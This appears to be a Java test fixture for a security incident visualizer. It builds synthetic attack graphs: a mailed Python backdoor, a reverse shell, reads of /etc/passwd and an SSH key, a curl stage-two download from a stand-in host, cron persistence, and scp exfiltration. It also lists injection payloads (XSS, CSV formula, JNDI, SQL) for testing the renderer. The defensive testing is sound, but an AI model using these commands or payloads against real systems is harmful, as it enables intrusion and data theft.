package io.tadoru.visualizer;

import io.tadoru.collector.Coverage;
import io.tadoru.collector.Event;
import io.tadoru.collector.OpenFlags;
import io.tadoru.collector.Question;
import io.tadoru.collector.Sentence;
import io.tadoru.correlator.Alert;
import io.tadoru.correlator.Edge;
import io.tadoru.correlator.Incident;
import io.tadoru.correlator.Node;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import org.jspecify.annotations.Nullable;

/** Incidents as an investigation would give them: a mail with a backdoor, a large one, one without an answer. */
final class Incidents {
    static final long ALERT =
            Instant.parse("2026-11-22T02:03:04.123Z").getEpochSecond() * 1_000_000_000L + 123_000_000L;

    /** What an attacker would put into a name. */
    static final List<String> HOSTILE = List.of(
            "=cmd|'/c calc'!A0",
            "\"><script>alert(1)</script>",
            "\";URL=\"javascript:alert(1)\";x=\"",
            "]>;\" image=",
            "image=\"http://198.51.100.1/x.png\"",
            "<img src=\"/etc/passwd\">",
            "fontname=x dpi=9999",
            "<TABLE><TR><TD HREF=\"javascript:1\">x",
            "javascript:alert(1)",
            "\u001B[31mred\u001B[0m\u0007",
            "harmless\u202Egnp.exe",
            "zero\u200Bwidth\uFEFF\u2066x\u2069",
            "../../../../etc/cron.d/x",
            "a\u0000b\r\nc\td",
            "lone \uD800 and \uDC00 end",
            "\\N \\G \\L \\E \\l \\",
            "&lt;b&gt; &amp;#38; &#60;",
            "日本語 Ünïcödé \uD83D\uDE00",
            "Z\u0300\u0301\u0302\u0303\u0304\u0305algo",
            "\u2028\u2029\u0085\u00A0\u00AD\u3164\uFFFE\uFFFF",
            "--></title></svg><svg onload=alert(1)>",
            "]]><![CDATA[x",
            "${jndi:ldap://x/y} {{7*7}} %s %n",
            "'; DROP TABLE x; --",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "＝1",
            "x".repeat(300_000));

    private final String host;
    private final Alert alert;
    private final Map<String, Node> nodes = new LinkedHashMap<>();
    private final List<Edge> edges = new ArrayList<>();
    private final List<Event> events = new ArrayList<>();
    private final List<Incident.Fold> folds = new ArrayList<>();
    private final List<Incident.Group> groups = new ArrayList<>();
    private final List<Incident.Activity> activities = new ArrayList<>();
    private final List<Sentence> limits = new ArrayList<>();
    private boolean partial;
    private Incident.@Nullable Answer answer;
    private long serial = 1000;

    private Incidents(String host, Alert alert) {
        this.host = host;
        this.alert = alert;
    }

    static Alert alert() {
        return new Alert(
                ALERT,
                "10.0.0.23",
                51234,
                "203.0.113.9",
                4444,
                "tcp",
                "ET MALWARE Possible Python Reverse Shell Outbound",
                1);
    }

    /** A mail's attachment becomes a backdoor; about 20 nodes. */
    static Incident mailBackdoor() {
        Incidents b = new Incidents("web01.example.net", alert());
        b.mail();
        return b.build();
    }

    /** The evidence stopped answering before the search was through. */
    static Incident partial() {
        Incidents b = new Incidents("web01.example.net", alert());
        b.mail();
        b.partial = true;
        b.limits.add(
                0,
                Sentence.text(
                        "The evidence stopped answering: node es-2 is gone. What is shown was found before that."));
        return b.build();
    }

    /** The same with more of everything: 60 nodes. */
    static Incident sixty() {
        Incidents b = new Incidents("web01.example.net", alert());
        b.mail();
        b.crowd(60);
        return b.build();
    }

    static Incident many(int count) {
        Incidents b = new Incidents("web01.example.net", alert());
        b.mail();
        b.crowd(count);
        return b.build();
    }

    /** So many processes, each started by an earlier one, and so many calls among them. */
    static Incident web(int processes, int calls) {
        Incidents b = new Incidents("web01.example.net", alert());
        for (int i = 0; i < processes; i++) {
            b.process(
                    "p:" + i,
                    Node.Role.EFFECT,
                    100 + i,
                    1,
                    "worker" + i,
                    List.of("worker", "--id=" + i),
                    "www-data",
                    i);
        }
        for (int i = 1; i < processes; i++) {
            b.edge(Edge.Kind.FORKED, "p:" + i / 3, "p:" + i, "clone", "success", i, 1, false);
        }
        for (int i = processes - 1; i < calls; i++) {
            int from = (int) (i * 7919L % processes);
            b.edge(
                    Edge.Kind.FORKED,
                    "p:" + from,
                    "p:" + (from + 1 + i % 40) % processes,
                    "call" + i % 7,
                    "success",
                    i,
                    1,
                    false);
        }
        return b.build();
    }

    /** One process for each name, in a row. */
    static Incident processesNamed(List<String> names) {
        Incidents b = new Incidents("web01.example.net", alert());
        for (int i = 0; i < names.size(); i++) {
            b.process(
                    "p:" + i, Node.Role.CONTEXT, 100 + i, 1, names.get(i), List.of("x", names.get(i)), names.get(i), i);
        }
        return b.build();
    }

    /**
     * Whatever could be: trees of processes, days and nanoseconds between events, ties, ends before the last event, groups
     * with and without a node that stands for them, processes that started each other.
     */
    static Incident random(Random random) {
        Incidents b = new Incidents("web01.example.net", alert());
        int processes = 1 + random.nextInt(80);
        int others = random.nextInt(40);
        double[] scales = {0, 0.001, 0.004, 1, 60, 3600, 500_000};
        double now = -scales[random.nextInt(scales.length)];
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < processes; i++) {
            String name = HOSTILE.get(random.nextInt(HOSTILE.size()));
            ids.add(b.process(
                    "p:" + i, Node.Role.values()[random.nextInt(4)], i, 1, name, List.of("x", name), "u", now));
            now += random.nextDouble() * scales[random.nextInt(scales.length)];
        }
        for (int i = 0; i < others; i++) {
            String id = "o:" + i;
            ids.add(
                    random.nextBoolean()
                            ? b.file(id, Node.Role.CAUSE, "/tmp/" + HOSTILE.get(random.nextInt(HOSTILE.size())), i)
                            : b.endpoint(id, Node.Role.EFFECT, "198.51.100." + i, random.nextInt(3) - 1));
        }
        int edges = random.nextInt(400);
        double time = -scales[random.nextInt(scales.length)];
        for (int i = 0; i < edges; i++) {
            String p = ids.get(random.nextInt(processes));
            int at = random.nextInt(ids.size());
            String other = ids.get(at);
            if (!p.equals(other)) {
                Edge.Kind kind = Edge.Kind.values()[random.nextInt(9)];
                kind = at < processes ? Edge.Kind.FORKED : kind == Edge.Kind.FORKED ? Edge.Kind.READ : kind;
                boolean into = kind == Edge.Kind.READ || kind == Edge.Kind.EXECUTED || kind == Edge.Kind.ACCEPTED;
                b.edge(kind, into ? other : p, into ? p : other, "call", "success", time, 1, random.nextInt(9) == 0);
            }
            time += random.nextDouble() * scales[random.nextInt(scales.length)];
        }
        // Whoever stands for others is in no group.
        List<String> grouped = new ArrayList<>(ids);
        Collections.shuffle(grouped, random);
        List<String> stand = grouped.subList(0, (grouped.size() + 2) / 3);
        int next = stand.size();
        for (int g = 1; next < grouped.size() && random.nextInt(5) > 0; g++) {
            List<String> members = grouped.subList(next, Math.min(grouped.size(), next + 1 + random.nextInt(6)));
            next += members.size();
            String into = random.nextBoolean() ? "" : stand.get(random.nextInt(stand.size()));
            b.groups.add(new Incident.Group(
                    "g" + g,
                    "random",
                    into,
                    members,
                    random.nextBoolean(),
                    at(0),
                    at(1),
                    Sentence.text(HOSTILE.get(random.nextInt(HOSTILE.size())))));
        }
        return b.build();
    }

    static Incident withoutAnswer() {
        Incidents b = new Incidents("web01.example.net", alert());
        b.process("p:1:900", Node.Role.CONTEXT, 900, 1, "cron", List.of("/usr/sbin/cron", "-f"), "root", -600);
        b.limits.add(Sentence.text(
                "No connect to 203.0.113.9:4444 is recorded; the connection may have been made through io_uring."));
        return b.build();
    }

    /** The mail backdoor with every text replaced. */
    static Incident hostile(String text) {
        Incident i = mailBackdoor();
        UnaryOperator<String> h = s -> s.isEmpty() ? s : text;
        return rewrite(i, h);
    }

    /** Every hostile text somewhere, a different one in each place. */
    static Incident hostile() {
        int[] next = {0};
        return rewrite(mailBackdoor(), s -> HOSTILE.get(next[0]++ % HOSTILE.size()));
    }

    private static Incident rewrite(Incident i, UnaryOperator<String> h) {
        List<Node> nodes = i.nodes().stream().map(n -> rewrite(n, h)).toList();
        List<Edge> edges = i.edges().stream()
                .map(e -> new Edge(
                        e.number(),
                        e.from(),
                        e.to(),
                        e.kind(),
                        h.apply(e.call()),
                        h.apply(e.outcome()),
                        e.first(),
                        e.last(),
                        e.count(),
                        e.path(),
                        e.events().stream()
                                .map(r -> new Edge.EventRef(r.time(), r.serial(), source(h)))
                                .toList()))
                .toList();
        List<Event> events = i.events().stream()
                .map(e -> new Event(
                        e.time(),
                        e.serial(),
                        h.apply(e.host()),
                        e.type(),
                        h.apply(e.call()),
                        e.success(),
                        e.exit(),
                        e.pid(),
                        e.ppid(),
                        new Event.User(
                                h.apply("u"), h.apply("u"), h.apply("u"), h.apply("u"), h.apply("u"), h.apply("u")),
                        h.apply(e.comm()),
                        h.apply(e.exe()),
                        List.of(h.apply("a"), h.apply("b")),
                        e.a0(),
                        e.a1(),
                        e.a2(),
                        e.a3(),
                        e.openFlags(),
                        h.apply(e.cwd()),
                        List.of(new Event.PathItem(h.apply("p"), h.apply("NORMAL"), 7, h.apply("fd:00"), h.apply("0"))),
                        new Event.SocketAddress(h.apply("ipv4"), h.apply("1.2.3.4"), 80, h.apply("")),
                        List.of(h.apply("k")),
                        source(h)))
                .toList();
        Incident.Answer a = java.util.Objects.requireNonNull(i.answer());
        Incident.Answer answer = new Incident.Answer(
                a.node(),
                a.confidence(),
                a.reasons().stream().map(x -> x.map(h)).toList(),
                a.rivals().stream()
                        .map(r -> new Incident.Rival(
                                r.pid(),
                                h.apply(r.comm()),
                                h.apply(r.exe()),
                                r.score(),
                                r.reason().map(h)))
                        .toList(),
                a.origin(),
                a.path(),
                a.call(),
                a.time());
        TreeMap<String, Long> calls = new TreeMap<>(i.coverage().calls());
        calls.put(h.apply("call"), 1L);
        Coverage c = i.coverage();
        TreeMap<String, String> options = new TreeMap<>();
        options.put(h.apply("name"), h.apply("value"));
        Alert l = i.alert();
        return new Incident(
                new Alert(
                        l.time(),
                        h.apply(l.srcIp()),
                        l.srcPort(),
                        h.apply(l.destIp()),
                        l.destPort(),
                        h.apply(l.proto()),
                        h.apply(l.signature()),
                        l.severity()),
                h.apply(i.host()),
                answer,
                nodes,
                edges,
                events,
                new Coverage(
                        c.from(),
                        c.to(),
                        c.events(),
                        c.first(),
                        c.last(),
                        calls,
                        c.missing(),
                        c.order(),
                        c.uring(),
                        List.of(Sentence.text(h.apply("note")))),
                true,
                List.of(Sentence.text(h.apply("limit")), Sentence.text(h.apply("limit"))),
                i.folded().stream()
                        .map(f -> new Incident.Fold(
                                h.apply(f.rule()),
                                f.node(),
                                f.count(),
                                f.exact(),
                                f.first(),
                                f.last(),
                                f.words().map(h),
                                List.of(
                                        new Incident.Held(h.apply("x"), 1, f.first()),
                                        new Incident.Held(h.apply("y"), 1, f.last())),
                                List.of(Question.of(h.apply("host"), new Question.OfPath(h.apply("path")), 0, 1, 0)
                                        .only(Set.of(h.apply("call"))))))
                        .toList(),
                i.groups().stream()
                        .map(g -> new Incident.Group(
                                g.id(),
                                h.apply(g.rule()),
                                g.into(),
                                g.nodes(),
                                g.proven(),
                                g.first(),
                                g.last(),
                                g.words().map(h)))
                        .toList(),
                i.activities().stream()
                        .map(x -> new Incident.Activity(
                                x.id(),
                                x.parent(),
                                x.kind(),
                                h.apply(x.user()),
                                h.apply(x.session()),
                                x.root(),
                                x.nodes(),
                                x.first(),
                                x.last(),
                                x.words().map(h)))
                        .toList(),
                i.whys().stream()
                        .map(w -> new Incident.Why(
                                w.node(),
                                w.from(),
                                w.edge(),
                                w.cost(),
                                w.weights().stream()
                                        .map(x -> new Incident.Weighed(
                                                h.apply(x.name()),
                                                x.step(),
                                                x.value(),
                                                x.reason().map(h)))
                                        .toList()))
                        .toList(),
                i.reach(),
                options,
                h.apply(i.version()));
    }

    private static Event.Source source(UnaryOperator<String> h) {
        return new Event.Source(h.apply("audit.log"), h.apply("line 1"));
    }

    private static Node rewrite(Node node, UnaryOperator<String> h) {
        List<Node.Finding> findings = List.of(new Node.Finding(
                h.apply("rule"),
                h.apply("high"),
                Sentence.text(h.apply("reason")),
                List.of("e1"),
                List.of("T1053.003")));
        if (node instanceof Node.ProcessNode p) {
            return new Node.ProcessNode(
                    p.id(),
                    p.role(),
                    findings,
                    h.apply(p.host()),
                    p.pid(),
                    p.ppid(),
                    h.apply(p.comm()),
                    h.apply(p.exe()),
                    List.of(new Node.Command(
                            p.start(),
                            h.apply("exe"),
                            List.of(h.apply("a"), h.apply("b"), h.apply("c")),
                            h.apply("cwd"))),
                    new Node.User(h.apply("1"), h.apply("n"), h.apply("1"), h.apply("n"), h.apply("1")),
                    p.start(),
                    p.born(),
                    p.end());
        } else if (node instanceof Node.FileNode f) {
            return new Node.FileNode(
                    f.id(),
                    f.role(),
                    findings,
                    h.apply(f.host()),
                    List.of(h.apply("p"), h.apply("q")),
                    f.inode(),
                    h.apply("fd:00"));
        }
        Node.EndpointNode e = (Node.EndpointNode) node;
        return new Node.EndpointNode(e.id(), e.role(), findings, h.apply(e.ip()), e.port());
    }

    // --- the parts

    private void mail() {
        Node.Role cause = Node.Role.CAUSE;
        Node.Role effect = Node.Role.EFFECT;
        String mua = process(
                "p:mua", cause, 3120, 2011, "thunderbird", List.of("/usr/lib/thunderbird/thunderbird"), "kenji", -5400);
        String attachment = file("f:invoice", cause, "/home/kenji/Downloads/invoice_2026-11.py", 1_048_601);
        String term = process(
                "p:term",
                cause,
                3900,
                2011,
                "gnome-terminal-",
                List.of("/usr/libexec/gnome-terminal-server"),
                "kenji",
                -900);
        String bash = process("p:bash", cause, 3907, 3900, "bash", List.of("bash"), "kenji", -890);
        String python = process(
                "p:py",
                Node.Role.ANSWER,
                4242,
                3907,
                "python3",
                List.of("python3", "/home/kenji/Downloads/invoice_2026-11.py", "--quiet"),
                "kenji",
                -3.2);
        String mail = endpoint("a:mail", cause, "198.51.100.25", 993);
        String c2 = endpoint("a:c2", Node.Role.EFFECT, "203.0.113.9", 4444);
        String image = file("f:python", cause, "/usr/bin/python3.11", 524_301);
        String rc = file("f:bashrc", cause, "/home/kenji/.bashrc", 1_048_002);
        String hist = file("f:hist", cause, "/home/kenji/.bash_history", 1_048_003);
        String sh = process("p:sh", effect, 4243, 4242, "sh", List.of("/bin/sh", "-i"), "kenji", 0.4);
        String id = process("p:id", effect, 4250, 4243, "id", List.of("id"), "kenji", 4.1);
        String cat = process(
                "p:cat",
                effect,
                4251,
                4243,
                "cat",
                List.of("cat", "/etc/passwd", "/home/kenji/.ssh/id_ed25519"),
                "kenji",
                9.0);
        String curl = process(
                "p:curl",
                effect,
                4260,
                4243,
                "curl",
                List.of("curl", "-fsS", "-o", "/home/kenji/.cache/.update", "http://203.0.113.9:8080/stage2"),
                "kenji",
                21.7);
        String stage = file("f:stage2", effect, "/home/kenji/.cache/.update", 1_048_777);
        String passwd = file("f:passwd", effect, "/etc/passwd", 262_401);
        String key = file("f:key", effect, "/home/kenji/.ssh/id_ed25519", 1_048_020);
        String c2b = endpoint("a:c2b", effect, "203.0.113.9", 8080);
        String crontab = process("p:crontab", effect, 4275, 4243, "crontab", List.of("crontab", "-"), "kenji", 48.2);
        String spool = file("f:spool", effect, "/var/spool/cron/crontabs/kenji", 786_440);
        String other = process(
                "p:backup",
                Node.Role.CONTEXT,
                1510,
                1,
                "rsync",
                List.of("rsync", "-a", "/srv", "203.0.113.9::b"),
                "backup",
                -300);

        edge(Edge.Kind.CONNECTED, mua, mail, "connect", "in progress", -4000, 6, false);
        edge(Edge.Kind.FORKED, term, bash, "clone", "success", -890, 1, false);
        edge(Edge.Kind.READ, rc, bash, "openat", "success", -889.9, 1, false);
        edge(Edge.Kind.READ, hist, bash, "openat", "success", -889.8, 1, false);
        edge(Edge.Kind.WROTE, mua, attachment, "openat", "success", -192.4, 3, true);
        edge(Edge.Kind.FORKED, bash, python, "clone", "success", -3.2, 1, true);
        edge(Edge.Kind.EXECUTED, image, python, "execve", "success", -3.19, 1, false);
        edge(Edge.Kind.READ, attachment, python, "openat", "success", -3.0, 1, true);
        edge(Edge.Kind.CONNECTED, python, c2, "connect", "in progress", -0.31, 1, true);
        edge(Edge.Kind.FORKED, python, sh, "vfork", "success", 0.4, 1, false);
        edge(Edge.Kind.FORKED, sh, id, "clone", "success", 4.1, 1, false);
        edge(Edge.Kind.FORKED, sh, cat, "clone", "success", 9.0, 1, false);
        edge(Edge.Kind.READ, passwd, cat, "openat", "success", 9.02, 1, false);
        edge(Edge.Kind.READ, key, cat, "openat", "success", 9.03, 1, false);
        edge(Edge.Kind.FORKED, sh, curl, "clone", "success", 21.7, 1, false);
        edge(Edge.Kind.CONNECTED, curl, c2b, "connect", "in progress", 21.8, 1, false);
        edge(Edge.Kind.WROTE, curl, stage, "openat", "success", 22.4, 1, false);
        edge(Edge.Kind.CHANGED_MODE, sh, stage, "fchmodat", "success", 30.0, 1, false);
        edge(Edge.Kind.FORKED, sh, crontab, "clone", "success", 48.2, 1, false);
        edge(Edge.Kind.WROTE, crontab, spool, "openat", "success", 48.25, 1, false);
        edge(Edge.Kind.CONNECTED, other, c2, "connect", "ECONNREFUSED", -298, 4, false);

        answer = new Incident.Answer(
                python,
                0.97,
                List.of(
                        Sentence.text("it connected to 203.0.113.9:4444 0.31 s before the alert"),
                        Sentence.text("address, port and protocol are those of the alert"),
                        Sentence.text("no other process connected to that port within 20 min")),
                List.of(new Incident.Rival(
                        1510,
                        "rsync",
                        "/usr/bin/rsync",
                        0.22,
                        Sentence.text("same address, but another port and 5 min earlier, refused"))),
                mua,
                List.of(mua, attachment, python),
                "connect",
                at(-0.31));
        folds.add(new Incident.Fold(
                "unwritten-inputs",
                python,
                84,
                true,
                at(-3.1),
                at(-0.4),
                Sentence.text("python3 read 84 files that nobody wrote within reach"),
                List.of(
                        new Incident.Held("/usr/lib/python3.11/os.py", 1, at(-3.1)),
                        new Incident.Held("/usr/lib/python3.11/socket.py", 1, at(-0.4))),
                List.of(Question.of("desk-7", new Question.OfProcess(27499), at(-3.1), at(-0.4), 0)
                        .only(Set.of("openat")))));
        folds.add(new Incident.Fold(
                "like-siblings",
                mua,
                212,
                false,
                at(-5000),
                at(-100),
                Sentence.text("thunderbird read and wrote at least 212 files of its own profile"),
                List.of(new Incident.Held("/home/kenji/.thunderbird/x.default/prefs.js", 212, at(-100))),
                List.of(Question.of("desk-7", new Question.OfFile(1540250, "fe:00"), Long.MIN_VALUE, at(-100), 0))));
        limits.add(Sentence.text(
                "The tracking stopped at the boot of the host: what brought thunderbird itself was not followed."));
        groups.add(new Incident.Group(
                "g1",
                "alike-siblings",
                "",
                List.of(id, cat),
                false,
                at(4.1),
                at(9),
                Sentence.text("2 x commands that only looked around")));
        groups.add(new Incident.Group(
                "g2",
                "own-files",
                bash,
                List.of(rc, hist),
                true,
                at(-889.9),
                at(-889.8),
                Sentence.text("2 files that only bash read")));
        activities.add(new Incident.Activity(
                "a1",
                "",
                "session",
                "kenji",
                "12",
                mua,
                List.of(mua, attachment),
                at(-900),
                at(60),
                Sentence.text("thunderbird saved 1 file")));
        activities.add(new Incident.Activity(
                "a2",
                "a1",
                "subtree",
                "kenji",
                "12",
                python,
                List.of(python, sh),
                at(-3),
                at(60),
                Sentence.text("python3 started a shell")));
    }

    /** Fills up to a number of nodes with what a busy shell does. */
    private void crowd(int count) {
        String sh = "p:sh";
        int n = 0;
        while (nodes.size() < count) {
            n++;
            double t = 60 + n * 2.5;
            String p = process(
                    "p:x" + n,
                    Node.Role.EFFECT,
                    5000 + n,
                    4243,
                    n % 3 == 0 ? "gzip" : n % 3 == 1 ? "tar" : "scp",
                    n % 3 == 2
                            ? List.of(
                                    "scp",
                                    "-q",
                                    "/tmp/.x/part" + n + ".gz",
                                    "kenji@198.51.100." + (n % 200 + 1) + ":/in/")
                            : List.of(n % 3 == 0 ? "gzip" : "tar", "-9", "/srv/export/customers-" + n + ".db"),
                    "kenji",
                    t);
            edge(Edge.Kind.FORKED, sh, p, "clone", "success", t, 1, false);
            for (int f = 0; f < n % 5 && nodes.size() < count; f++) {
                String file = file(
                        "f:x" + n + "." + f,
                        Node.Role.EFFECT,
                        "/srv/export/2026/customers-" + n + "-" + f + ".db",
                        900_000 + n * 10L + f);
                edge(
                        f == 0 ? Edge.Kind.WROTE : Edge.Kind.READ,
                        f == 0 ? p : file,
                        f == 0 ? file : p,
                        "openat",
                        "success",
                        t + 0.1 * f + 0.05,
                        1 + f,
                        false);
            }
            if (n % 3 == 2 && nodes.size() < count) {
                String a = endpoint("a:x" + n, Node.Role.EFFECT, "198.51.100." + (n % 200 + 1), 22);
                edge(Edge.Kind.CONNECTED, p, a, "connect", "success", t + 0.6, 1, false);
            }
        }
    }

    private static long at(double seconds) {
        return ALERT + Math.round(seconds * 1000) * 1_000_000L;
    }

    private String process(
            String id, Node.Role role, int pid, int ppid, String comm, List<String> argv, String user, double start) {
        List<Node.Finding> findings = comm.equals("crontab")
                ? List.of(new Node.Finding(
                        "persistence-cron",
                        "high",
                        Sentence.text("a process behind the alert changed a crontab"),
                        List.of("e20"),
                        List.of("T1053.003")))
                : List.of();
        String exe = argv.get(0).startsWith("/") ? argv.get(0) : "/usr/bin/" + argv.get(0);
        String uid = user.equals("root") ? "0" : "1000";
        nodes.put(
                id,
                new Node.ProcessNode(
                        id,
                        role,
                        findings,
                        host,
                        pid,
                        ppid,
                        comm,
                        exe,
                        List.of(new Node.Command(at(start), exe, argv, "/home/" + user)),
                        new Node.User(uid, user, uid, user, "3"),
                        at(start),
                        start > -100,
                        start > 3 ? at(start + 0.5) : null));
        return id;
    }

    private String file(String id, Node.Role role, String path, long inode) {
        nodes.put(id, new Node.FileNode(id, role, List.of(), host, List.of(path), inode, "fd:00"));
        return id;
    }

    private String endpoint(String id, Node.Role role, String ip, int port) {
        nodes.put(id, new Node.EndpointNode(id, role, List.of(), ip, port));
        return id;
    }

    private void edge(
            Edge.Kind kind,
            String from,
            String to,
            String call,
            String outcome,
            double seconds,
            int count,
            boolean path) {
        List<Edge.EventRef> refs = new ArrayList<>();
        String actor = kind == Edge.Kind.READ || kind == Edge.Kind.EXECUTED || kind == Edge.Kind.ACCEPTED ? to : from;
        Node.ProcessNode p = (Node.ProcessNode) java.util.Objects.requireNonNull(nodes.get(actor));
        Node other = java.util.Objects.requireNonNull(nodes.get(actor.equals(from) ? to : from));
        for (int i = 0; i < count; i++) {
            long time = at(seconds + i * 0.25);
            Event.Source source = new Event.Source("audit.log", "line " + serial * 4);
            refs.add(new Edge.EventRef(time, serial, source));
            boolean success = outcome.equals("success");
            events.add(new Event(
                    time,
                    serial++,
                    host,
                    "SYSCALL",
                    call,
                    success,
                    success ? 3 : outcome.equals("in progress") ? Event.EINPROGRESS : -111,
                    p.pid(),
                    p.ppid(),
                    new Event.User("1000", "1000", "1000", "kenji", "kenji", "3"),
                    p.comm(),
                    p.exe(),
                    kind == Edge.Kind.EXECUTED ? p.commands().get(0).argv() : List.of(),
                    0,
                    0,
                    0,
                    0,
                    call.equals("openat") ? (kind == Edge.Kind.READ ? 0 : OpenFlags.CREAT) : OpenFlags.NONE,
                    "/home/kenji",
                    other instanceof Node.FileNode f
                            ? List.of(new Event.PathItem(f.paths().get(0), "NORMAL", f.inode(), f.dev(), "0100644"))
                            : List.of(),
                    other instanceof Node.EndpointNode e ? new Event.SocketAddress("ipv4", e.ip(), e.port(), "") : null,
                    List.of("tadoru"),
                    source));
        }
        edges.add(new Edge(
                0,
                from,
                to,
                kind,
                call,
                outcome,
                refs.get(0).time(),
                refs.get(count - 1).time(),
                count,
                path,
                refs));
    }

    /** Each node by its first edge, as if that had led to it; the answer first. */
    private List<Incident.Why> whys(List<Edge> numbered) {
        List<Incident.Why> whys = new ArrayList<>();
        String first = answer == null ? "" : answer.node();
        for (Node n : nodes.values()) {
            Edge by = numbered.stream()
                    .filter(e -> e.from().equals(n.id()) || e.to().equals(n.id()))
                    .findFirst()
                    .orElse(null);
            if (n.id().equals(first) || by == null) {
                Incident.Weighed alert = new Incident.Weighed("alert", true, 0, Sentence.text("the alert means it"));
                whys.add(n.id().equals(first) ? 0 : whys.size(), new Incident.Why(n.id(), "", "", 0, List.of(alert)));
            } else {
                whys.add(new Incident.Why(
                        n.id(),
                        by.from().equals(n.id()) ? by.to() : by.from(),
                        by.id(),
                        0.65,
                        List.of(
                                new Incident.Weighed("named-input", true, 0.5, Sentence.text("a command names it")),
                                new Incident.Weighed("rare", false, 0.7, Sentence.text("few use it")))));
            }
        }
        return whys;
    }

    private Incident build() {
        edges.sort(Comparator.comparingLong(Edge::first));
        List<Edge> numbered = new ArrayList<>();
        for (Edge e : edges) {
            numbered.add(new Edge(
                    numbered.size() + 1,
                    e.from(),
                    e.to(),
                    e.kind(),
                    e.call(),
                    e.outcome(),
                    e.first(),
                    e.last(),
                    e.count(),
                    e.path(),
                    e.events()));
        }
        TreeMap<String, Long> calls = new TreeMap<>(Map.of(
                "execve",
                812L,
                "openat",
                40_211L,
                "connect",
                190L,
                "clone",
                801L,
                "vfork",
                33L,
                "exit_group",
                822L,
                "fchmodat",
                12L));
        TreeMap<String, String> options =
                new TreeMap<>(Map.of("window", "20m", "max-nodes", "400", "mode", "time-ordered"));
        events.sort(Event.ORDER);
        return new Incident(
                alert,
                host,
                answer,
                nodes.values().stream()
                        .sorted(Comparator.comparing(n -> switch (n.role()) {
                            case ANSWER -> 0;
                            case CAUSE -> 1;
                            case EFFECT -> 2;
                            case CONTEXT -> 3;
                        }))
                        .toList(),
                numbered,
                events,
                new Coverage(
                        at(-1200),
                        at(600),
                        42_881,
                        at(-1199),
                        at(598),
                        calls,
                        17,
                        new Coverage.Order(List.of(new Coverage.Gap(at(-301), at(-300), 12)), 1, 4_500_000_000L),
                        0,
                        List.of(Sentence.text("audit.log line 88123 is cut: half a record at the end of the file"))),
                partial,
                limits,
                folds,
                groups,
                activities,
                whys(numbered),
                new Incident.Reach(at(-86_400 * 20), at(-86_400 * 11), 2),
                options,
                "0.1.0");
    }
}
